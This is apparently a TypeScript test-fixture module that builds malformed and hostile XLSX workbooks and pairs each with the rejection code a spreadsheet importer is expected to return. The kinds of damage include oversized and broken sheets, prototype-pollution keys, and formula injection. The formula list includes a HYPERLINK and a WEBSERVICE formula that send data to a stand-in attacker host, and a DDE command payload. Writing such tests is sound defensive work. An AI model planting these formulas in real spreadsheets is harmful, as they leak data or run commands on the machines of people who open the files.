import type { HostileKind, Random } from './hostile-kind.ts';
import { cellsOf, goodLines, headers } from './lines.ts';
import { sheetXml, stringsXml, stylesXml, textRows, workbookOf } from './workbook.ts';
import { workbookParts } from './workbook.ts';
import { zipOf } from './zip.ts';

const rows = textRows([headers, ...goodLines(5).map(cellsOf)]);
const cell = (address: string, text: string) => `<c r="${address}" t="inlineStr"><is><t>${text}</t></is></c>`;

const lettersOf = (column: number): string =>
  column === 0 ? '' : lettersOf(Math.floor((column - 1) / 26)) + String.fromCharCode(65 + ((column - 1) % 26));

const times = (count: number, make: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => make(index)).join('');

const longText = (length: number) => ({ strings: stringsXml(['x'.repeat(length)]) });
const sharedCell = '<c t="s"><v>0</v></c>';

const sheet = (xml: string) => zipOf(workbookParts({ sheets: [{ name: 'Returns', xml }] }));

const formula = (random: Random) =>
  random.oneOf([
    'HYPERLINK("http://attacker.example/?"&amp;A1,"x")',
    "cmd|'/C calc'!A0",
    'WEBSERVICE("http://attacker.example")',
    'CONCATENATE("XKW",ROW())',
    "'[other.xlsx]Sheet1'!$A$1",
    'A2',
  ]);

/** Sheets that are larger than any list, refer to what isn't there, or are no sheets. */
export const hostileSheets: readonly HostileKind[] = [
  {
    name: '16,384 columns with something in them',
    make: (random) =>
      workbookOf(
        `${rows}<row r="9">${times(16_384, (index) => cell(`${lettersOf(index + 1)}9`, String(random.below(10))))}</row>`,
      ),
    codes: ['FileTooLarge'],
  },
  {
    name: 'one cell far to the right',
    make: (random) =>
      workbookOf(`${rows}<row r="1048576">${cell(`${random.oneOf(['XFD', 'ZZZ', 'DDD', 'AAA'])}1048576`, 'x')}</row>`),
    codes: ['FileTooLarge'],
  },
  {
    name: 'more rows than are counted',
    make: (random) =>
      workbookOf(
        times(10_002 + random.below(20_000), (index) => `<row r="${index + 1}">${cell(`A${index + 1}`, 'x')}</row>`),
      ),
    codes: ['FileTooLarge'],
  },
  {
    name: 'more cells than are read',
    make: (random) => workbookOf(times(1300 + random.below(500), () => `<row>${'<c><v>1</v></c>'.repeat(100)}</row>`)),
    codes: ['FileTooLarge'],
  },
  {
    name: 'rows that go backwards or nowhere',
    make: (random) =>
      workbookOf(
        `${rows}<row r="${random.oneOf(['3', '0', '-7', '1e3', 'x', 'NaN', '1.5', '99999999999999999999'])}">${cell('A3', 'x')}</row>`,
      ),
    codes: ['FileDamaged'],
  },
  {
    name: 'cells that go backwards or nowhere',
    make: (random) =>
      workbookOf(
        `${rows}<row r="9">${cell('B9', 'x')}${cell(random.oneOf(['A9', 'B9', '9', 'ÄÖ9', 'b9', '$C$9', 'ABCD9', '']), 'x')}</row>`,
      ),
    codes: ['FileDamaged'],
  },
  {
    name: 'texts that are not there',
    make: (random) =>
      workbookOf(
        `${rows}<row r="9"><c r="A9" t="s"><v>${random.oneOf(['1', '-1', '4294967296', 'x', '0.5', '__proto__'])}</v></c></row>`,
        { strings: stringsXml(['x']) },
      ),
    codes: ['FileDamaged'],
  },
  {
    name: 'numbers that are none',
    make: (random) =>
      workbookOf(
        `${rows}<row r="9"><c r="A9"><v>${random.oneOf(['1e999', 'NaN', 'x', '1,5', '--1', '#N/A'])}</v></c></row>`,
      ),
    codes: ['FileDamaged'],
  },
  {
    name: 'a type of cell that nobody knows',
    make: (random) =>
      workbookOf(
        `${rows}<row r="9"><c r="A9" t="${random.oneOf(['z', '__proto__', 'constructor', 'S'])}"><v>1</v></c></row>`,
      ),
    codes: ['FileDamaged'],
  },
  {
    name: 'everything merged',
    make: (random) =>
      workbookOf(rows, {
        after: `<mergeCells><mergeCell ref="A1:${random.oneOf(['XFD1048576', 'F1048576', 'A9999999', 'ZZZ200000'])}"/></mergeCells>`,
      }),
    codes: ['FileTooLarge'],
  },
  {
    name: 'merged ranges that are turned round',
    make: (random) => {
      const lines = textRows([headers, ...goodLines(20).map((line) => cellsOf({ ...line, serialNumber: '?' }))]);
      return workbookOf(lines, {
        after: `<mergeCells>${times(1 + random.below(5), () => `<mergeCell ref="${random.oneOf(['B2:A9000', 'F9000:A2', 'A9000:F2', 'F2:E1048576', 'CW2:XFD9000'])}"/>`)}</mergeCells>`,
      });
    },
    refusedRows: 'serialNumberMalformed',
  },
  {
    // The text takes no more of the file than its length, each cell no more than a number.
    name: 'one text of megabytes in every row',
    make: (random) => {
      const lines = textRows([
        headers,
        ...goodLines(300 + random.below(700)).map((line) => cellsOf({ ...line, productDescription: '' })),
      ]);
      return workbookOf(
        lines.replaceAll(/<c (r="D(?!1")\d+").*?<\/c>/g, '<c $1 t="s"><v>0</v></c>'),
        longText(1_000_000 + random.below(48_000)),
      );
    },
    refusedRows: 'tooLong',
  },
  {
    name: 'one text in more cells than a table has room for',
    make: (random) =>
      workbookOf(
        `${textRows([headers])}${times(300 + random.below(100), () => `<row>${sharedCell.repeat(100)}</row>`)}`,
        longText(500 + random.below(500)),
      ),
    codes: ['FileTooLarge'],
  },
  {
    name: 'one text merged over more cells than a table has room for',
    make: (random) => {
      const filled = times(
        1000,
        (index) =>
          `<row r="${index + 2}">${cell(`A${index + 2}`, 'x'.repeat(index === 0 ? 900 + random.below(100) : 1))}</row>`,
      );
      return workbookOf(`${textRows([headers])}${filled}`, {
        after: '<mergeCells><mergeCell ref="A2:CV1001"/></mergeCells>',
      });
    },
    codes: ['FileTooLarge'],
  },
  {
    name: 'thousands of merged ranges',
    make: (random) =>
      workbookOf(rows, {
        after: `<mergeCells>${times(10_001 + random.below(5000), (index) => `<mergeCell ref="A${index + 10}:B${index + 10}"/>`)}</mergeCells>`,
      }),
    codes: ['FileTooLarge'],
  },
  {
    name: 'elements within elements within elements',
    make: (random) => sheet(sheetXml(`${rows}<row r="9">${'<x>'.repeat(50_000 + random.below(100_000))}</row>`)),
    codes: ['FileDamaged'],
  },
  {
    name: 'tags that do not end',
    make: (random) => sheet(sheetXml(rows).slice(0, 500 + random.below(1500))),
    codes: ['FileDamaged'],
  },
  {
    name: 'tags that end twice',
    make: (random) =>
      sheet(sheetXml(`${rows}${random.oneOf(['</row>', '</sheetData></sheetData>', '<c></row>', '<row', '<v>&'])}`)),
    codes: ['FileDamaged'],
  },
  {
    name: 'a part that is no sheet',
    make: (random) => sheet(random.oneOf(['', 'x', '<html/>', '<worksheet/>', '{"a":1}', '\0\0\0'])),
    codes: ['FileDamaged'],
  },
  {
    name: 'signs that are not UTF-8',
    make: (random) =>
      zipOf(
        workbookParts({ sheets: [{ name: 'Returns', xml: sheetXml(rows) }] }).map((part) =>
          part.name.endsWith('sheet1.xml')
            ? {
                ...part,
                content: Buffer.concat([
                  Buffer.from(String(part.content)),
                  Buffer.from([0xc0, 0x80, 0xff, random.below(256)]),
                ]),
              }
            : part,
        ),
      ),
    codes: ['FileDamaged'],
  },
  {
    name: 'nothing in it',
    make: (random) =>
      workbookOf(
        random.oneOf([
          '',
          '<row r="1"/>',
          '<row r="1"><c r="A1" s="1"/></row>',
          times(3000, (index) => `<row r="${index + 1}" ht="15"/>`),
        ]),
      ),
    codes: ['FileEmpty'],
  },
  {
    name: 'styles that are none',
    make: (random) => workbookOf(rows, { styles: random.oneOf(['x', '<styleSheet>', `${stylesXml}<x/>`, '']) }),
    codes: ['FileDamaged'],
  },
  {
    name: 'formulas for codes',
    make: (random) => {
      const column = random.oneOf(['C', 'F']);
      const lines = textRows([headers, ...goodLines(20).map(cellsOf)]);
      return workbookOf(
        lines.replaceAll(
          new RegExp(`<c r="${column}((?!1")\\d+)" t="inlineStr"><is><t [^>]*>([^<]*)</t></is></c>`, 'g'),
          (_, row: string, text: string) =>
            `<c r="${column}${row}" t="str"><f>${formula(random)}</f><v>${text}</v></c>`,
        ),
      );
    },
    refusedRows: 'formula',
  },
  {
    name: 'errors for codes',
    make: (random) => {
      const lines = textRows([headers, ...goodLines(20).map(cellsOf)]);
      return workbookOf(
        lines.replaceAll(
          /<c r="C((?!1")\d+)" t="inlineStr">.*?<\/c>/g,
          (_, row: string) =>
            `<c r="C${row}" t="e"><v>${random.oneOf(['#N/A', '#REF!', '#VALUE!', '#DIV/0!'])}</v></c>`,
        ),
      );
    },
    refusedRows: 'errorValue',
  },
];
